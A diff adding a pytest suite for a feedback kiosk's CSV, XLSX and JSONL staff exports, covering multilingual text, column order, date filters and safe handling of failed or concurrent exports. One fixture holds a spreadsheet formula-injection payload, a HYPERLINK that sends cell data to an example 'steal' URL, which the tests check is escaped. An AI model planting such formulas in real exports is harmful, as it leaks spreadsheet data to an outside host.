@@ -1,0 +1,303 @@
+"""Staff exports as a spreadsheet opens them: CSV, XLSX and JSONL from a real store, read back for real."""
+
+from __future__ import annotations
+
+import csv
+import gc
+import json
+import os
+import shutil
+import sqlite3
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from kiosk.export import FIXED_COLUMNS, export
+from kiosk.record import AnswerRecord, SessionRecord
+from kiosk.settings import KioskConfig
+from kiosk.simulate import simulate
+from kiosk.store import Saved, Store
+from tests.test_cli import kiosk
+
+BENGALI = "কর্মীরা খুব ভালো, ক্ষমা চাওয়ার দরকার নেই।"
+KOREAN = "직원들이 친절하고 잘 들어줘요."
+FORMULA = '=HYPERLINK("http://example.com/steal?d="&A1,"click me")'
+OVERALL = "Overall, how was your experience of our service?"
+WHY = OVERALL + " — Tell us why"
+LISTEN = "Do you feel we listen to you and know what matters most to you?"
+WORKING = "What is working? What is the best thing that has happened?"
+NOT_WORKING = "What is not working? What one thing would make it better?"
+
+
+def session(config: KioskConfig, answers: dict[str, str], why: str | None = None, *,
+            complete: bool = True) -> SessionRecord:
+    """A session on the built-in question set, as the flow records it. ``answers`` maps a question id to
+    an answer id (choice) or words (text); every other question was seen and skipped."""
+    records = []
+    for question in config.questions.questions:
+        given = answers.get(question.id)
+        answer = AnswerRecord(question.id, question.text, question.kind, "answered" if given else "skipped",
+                              follow_up_text=question.follow_up or None)
+        if given and question.kind == "choice":
+            answer.choice, answer.choice_text, answer.text = given, question.answer(given).text, why
+        elif given:
+            answer.text = given
+        records.append(answer)
+    return SessionRecord(config.questions.id, config.questions.version, "en-GB", records, complete)
+
+
+# What each saved session must look like in a spreadsheet, by column header; unlisted columns are empty.
+EXPECTED = [
+    {OVERALL: "Very good", WHY: BENGALI, LISTEN: "Yes", WORKING: KOREAN, NOT_WORKING: "More trips out"},
+    {OVERALL: "Poor", WHY: "'" + FORMULA, NOT_WORKING: "'-nothing, honestly"},
+    {LISTEN: "No"},
+    {OVERALL: "Neither good nor poor", WORKING: "'@everyone the garden"},
+]
+
+
+@pytest.fixture
+def saved(store: Store, config: KioskConfig) -> list[Saved]:
+    """Four sessions covering Bengali, Korean, formula-like text, skips and a half-finished session."""
+    sessions = [
+        session(config, {"overall": "very-good", "listen": "yes", "working": KOREAN, "not-working": "More trips out"},
+                why=BENGALI),
+        session(config, {"overall": "poor", "not-working": "-nothing, honestly"}, why=FORMULA),
+        session(config, {"listen": "no"}, complete=False),
+        session(config, {"overall": "neither", "working": "@everyone the garden"}),
+    ]
+    return [store.save(s) for s in sessions]
+
+
+def expected_header(config: KioskConfig) -> list[str]:
+    """Fixed columns, then each question's words in set order, each follow-up right after its question."""
+    header = list(FIXED_COLUMNS)
+    for question in config.questions.questions:
+        header.append(question.text)
+        if question.follow_up:
+            header.append(f"{question.text} — {question.follow_up}")
+    return header
+
+
+def read_table(path: Path) -> list[list[str]]:
+    """Rows of a CSV or XLSX export as strings, the way a person sees the cells."""
+    if path.suffix == ".xlsx":
+        sheet = load_workbook(path, read_only=True)["Responses"]
+        return [["" if value is None else str(value) for value in row] for row in sheet.iter_rows(values_only=True)]
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.reader(handle))
+
+
+def by_header(table: list[list[str]]) -> list[dict[str, str]]:
+    header, *rows = table
+    assert all(len(row) == len(header) for row in rows)
+    return [dict(zip(header, row, strict=True)) for row in rows]
+
+
+def exported_ids(path: Path) -> list[str]:
+    if path.suffix == ".jsonl":
+        return [json.loads(line)["id"] for line in path.read_text(encoding="utf-8").splitlines()]
+    return [row["id"] for row in by_header(read_table(path))]
+
+
+def database_ids(store: Store) -> list[str]:
+    with sqlite3.connect(store.path) as db:
+        return [row[0] for row in db.execute("SELECT id FROM responses ORDER BY seq")]
+
+
+def test_csv_has_a_bom_one_row_per_response_and_the_questions_in_set_order(store, config, saved, tmp_path):
+    out = tmp_path / "feedback.csv"
+    assert export(store, "csv", out) == len(saved)
+    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
+    table = read_table(out)
+    assert table[0] == expected_header(config)
+    assert table[0].index(WHY) == table[0].index(OVERALL) + 1
+    rows = by_header(table)
+    assert [row["id"] for row in rows] == [s.id for s in saved]
+    assert [row["seq"] for row in rows] == [str(s.seq) for s in saved]
+    assert [row["complete"] for row in rows] == ["True", "True", "False", "True"]
+    answer_columns = table[0][len(FIXED_COLUMNS):]
+    assert [{c: row[c] for c in answer_columns if row[c]} for row in rows] == EXPECTED
+
+
+def test_column_order_is_stable_across_exports_and_new_responses(store, config, saved, tmp_path):
+    first, second, later = tmp_path / "1.csv", tmp_path / "2.csv", tmp_path / "3.csv"
+    export(store, "csv", first)
+    export(store, "csv", second)
+    assert first.read_bytes() == second.read_bytes()
+    simulate(30, config=config, store=store, seed=5, on_saved=lambda _saved: None)
+    export(store, "csv", later)
+    assert read_table(later)[0] == read_table(first)[0]
+    assert len(read_table(later)) == 1 + len(saved) + 30
+
+
+def test_xlsx_holds_the_same_header_and_values_as_the_csv(store, saved, tmp_path):
+    export(store, "csv", tmp_path / "feedback.csv")
+    export(store, "xlsx", tmp_path / "feedback.xlsx")
+    assert read_table(tmp_path / "feedback.xlsx") == read_table(tmp_path / "feedback.csv")
+    cells = {cell.value: cell.data_type for row in load_workbook(tmp_path / "feedback.xlsx")["Responses"].rows
+             for cell in row}
+    assert {BENGALI, KOREAN} <= cells.keys()
+    assert cells["'" + FORMULA] == "s"  # a string, not a formula the spreadsheet would run
+    assert not any(kind == "f" for kind in cells.values())
+
+
+def test_a_control_character_typed_by_accident_does_not_stop_the_xlsx_export(store, config, tmp_path):
+    store.save(session(config, {"working": "The bell\x0b rings all night"}))
+    export(store, "xlsx", tmp_path / "feedback.xlsx")
+    export(store, "csv", tmp_path / "feedback.csv")
+    assert by_header(read_table(tmp_path / "feedback.xlsx"))[0][WORKING] == "The bell rings all night"
+    assert by_header(read_table(tmp_path / "feedback.csv"))[0][WORKING] == "The bell\x0b rings all night"
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_libreoffice_reads_bengali_korean_and_formula_text_as_written(store, saved, tmp_path, fmt):
+    out = tmp_path / f"feedback.{fmt}"
+    export(store, fmt, out)
+    converted = tmp_path / "converted"
+    result = subprocess.run(
+        ["soffice", f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless",
+         "--infilter=CSV:44,34,76",  # comma, double quote, UTF-8: only used for CSV input
+         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(converted), str(out)],
+        capture_output=True, text=True, timeout=240)
+    assert result.returncode == 0, result.stderr
+    header, *rows = read_table(converted / "feedback.csv")
+    assert header == read_table(out)[0]
+    cells = [dict(zip(header, row, strict=True)) for row in rows]
+    assert [row["id"] for row in cells] == [s.id for s in saved]
+    assert cells[0][WHY] == BENGALI and cells[0][WORKING] == KOREAN
+    assert cells[1][WHY] == "'" + FORMULA  # shown as typed, never turned into a link
+
+
+def test_jsonl_has_one_object_per_response_with_the_database_ids(store, tmp_path, kiosk_env):
+    data = store.path.parent
+    simulated = kiosk("simulate", "120", "--data", str(data), "--seed", "3", env=kiosk_env)
+    assert simulated.returncode == 0, simulated.stderr
+    committed = [line.split()[1] for line in simulated.stdout.splitlines()]
+    out = tmp_path / "all.jsonl"
+    assert export(store, "jsonl", out) == 120
+    lines = out.read_text(encoding="utf-8").splitlines()
+    records = [json.loads(line) for line in lines]
+    assert len(lines) == 120 and all(isinstance(r, dict) for r in records)
+    assert all({"id", "seq", "answers"} <= r.keys() and r["answers"] for r in records)
+    ids = [r["id"] for r in records]
+    assert len(set(ids)) == len(ids)
+    assert ids == database_ids(store) == committed
+    assert [r["seq"] for r in records] == list(range(1, 121))
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx", "jsonl"])
+def test_since_keeps_only_responses_from_that_day_on(store, saved, tmp_path, fmt):
+    old = {saved[0].seq: "2024-05-31T23:59:59Z", saved[1].seq: "2023-01-02T08:00:00Z",
+           saved[2].seq: "2024-06-01T00:00:00Z"}
+    with sqlite3.connect(store.path) as db:
+        db.executemany("UPDATE responses SET created_at_device = ? WHERE seq = ?", [(t, s) for s, t in old.items()])
+    out = tmp_path / f"recent.{fmt}"
+    result = kiosk("export", "--format", fmt, "--out", str(out), "--data", str(store.path.parent),
+                   "--since", "2024-06-01")
+    assert result.returncode == 0, result.stderr
+    assert result.stdout.startswith("Wrote 2 responses")
+    assert exported_ids(out) == [saved[2].id, saved[3].id]
+
+
+@pytest.mark.parametrize("args", [
+    ["--format", "pdf", "--out", "{out}/feedback.pdf"],
+    ["--format", "csv", "--out", "{out}/missing/feedback.csv"],
+    ["--format", "csv", "--out", "{out}/feedback.csv", "--since", "2026-13-45"],
+])
+def test_bad_export_arguments_give_one_error_line_and_no_file(store, saved, tmp_path, args):
+    out = tmp_path / "out"
+    out.mkdir()
+    result = kiosk("export", *(a.format(out=out) for a in args), "--data", str(store.path.parent))
+    assert result.returncode != 0
+    lines = result.stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("Error:"), result.stderr
+    assert list(out.iterdir()) == []
+
+
+def test_status_json_counts_what_was_stored(store, saved):
+    store.record_delivery([saved[0].id], [(saved[1].id, "rejected")], "2026-11-20T10:00:00Z")
+    result = kiosk("status", "--json", "--data", str(store.path.parent))
+    assert result.returncode == 0, result.stderr
+    status = json.loads(result.stdout)
+    assert (status["stored"], status["pending"], status["dead"], status["last_sync"]) == (
+        4, 2, 1, "2026-11-20T10:00:00Z")
+    assert status["incomplete"] == 1
+
+
+def fill_disk(_store: Store, partial: Path) -> type[Exception]:
+    """The export folder is full: every write to the file being written fails with ENOSPC."""
+    if not Path("/dev/full").exists():
+        pytest.skip("no /dev/full on this system")
+    partial.symlink_to("/dev/full")
+    return OSError
+
+
+def corrupt_a_row(store: Store, _partial: Path) -> type[Exception]:
+    """A row that is not one of ours (no question_set or language in its payload), after good rows."""
+    with sqlite3.connect(store.path) as db:
+        db.execute("INSERT INTO responses (id, created_at_device, question_set, complete, misuse_suspected, "
+                   "payload, sha256) VALUES ('x', '2026-11-23T00:00:00Z', 'default', 1, 0, '{\"answers\": []}', '')")
+    return KeyError
+
+
+UNRAISABLE = "pytest.PytestUnraisableExceptionWarning"  # something left open, complaining when collected
+
+
+@pytest.mark.filterwarnings(f"error::{UNRAISABLE}")
+@pytest.mark.parametrize(("fmt", "failure"), [
+    ("csv", fill_disk), ("jsonl", fill_disk), ("csv", corrupt_a_row), ("xlsx", corrupt_a_row),
+    # zipfile's own __del__ (inside openpyxl's save) retries its last write on the full disk and complains.
+    pytest.param("xlsx", fill_disk, marks=pytest.mark.filterwarnings(f"ignore::{UNRAISABLE}")),
+])
+def test_a_failed_export_leaves_the_previous_file_and_nothing_half_written(store, config, saved, tmp_path, fmt,
+                                                                         failure):
+    simulate(200, config=config, store=store, seed=2, on_saved=lambda _saved: None)  # more than one write buffer
+    folder = tmp_path / "usb"
+    folder.mkdir()
+    target = folder / f"feedback.{fmt}"
+    target.write_text("yesterday's export")
+    expected_error = failure(store, folder / f"feedback.{fmt}.partial")
+    with pytest.raises(expected_error):
+        export(store, fmt, target)
+    gc.collect()  # whatever the failed export left behind is finalised now, inside this test
+    assert [p.name for p in folder.iterdir()] == [target.name]
+    assert target.read_text() == "yesterday's export"
+
+
+def test_an_unknown_format_is_refused_before_anything_is_written(store, saved, tmp_path):
+    folder = tmp_path / "usb"
+    folder.mkdir()
+    with pytest.raises(ValueError, match="pdf"):
+        export(store, "pdf", folder / "feedback.pdf")  # type: ignore[arg-type]
+    assert list(folder.iterdir()) == []
+
+
+@pytest.mark.timeout(60)
+@pytest.mark.skipif(not Path("/proc/self/wchan").exists(), reason="needs Linux /proc to see the export waiting")
+def test_a_response_saved_during_an_export_does_not_make_it_inconsistent(store, saved, tmp_path):
+    """A real `kiosk export` is held at a real blocking point: its .partial file is a FIFO, so opening it
+    waits for a reader. While it waits, after it has counted, the kiosk saves a response from a question
+    set not seen before; the export must still write exactly the responses it counted."""
+    out, fifo = tmp_path / "feedback.csv", tmp_path / "feedback.csv.partial"
+    os.mkfifo(fifo)
+    command = [sys.executable, "-m", "kiosk", "export", "--format", "csv", "--out", str(out),
+               "--data", str(store.path.parent)]
+    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as exporting:
+        while Path(f"/proc/{exporting.pid}/wchan").read_text() != "wait_for_partner":  # a state, not a time
+            assert exporting.poll() is None, exporting.stderr.read() if exporting.stderr else ""
+            time.sleep(0.01)
+        store.save(SessionRecord("feelings", 1, "en-GB", [AnswerRecord("feel-today", "How do you feel?", "choice",
+                                                                       "answered", "ok", "OK")], complete=True))
+        with fifo.open(encoding="utf-8-sig", newline="") as reader:
+            table = list(csv.reader(reader))
+        stdout, stderr = exporting.communicate()
+    assert exporting.returncode == 0, stderr
+    assert stdout.startswith(f"Wrote {len(table) - 1} responses")
+    assert len(table) - 1 == len(saved)  # the new response goes into the next export
+    assert all(len(row) == len(table[0]) for row in table)
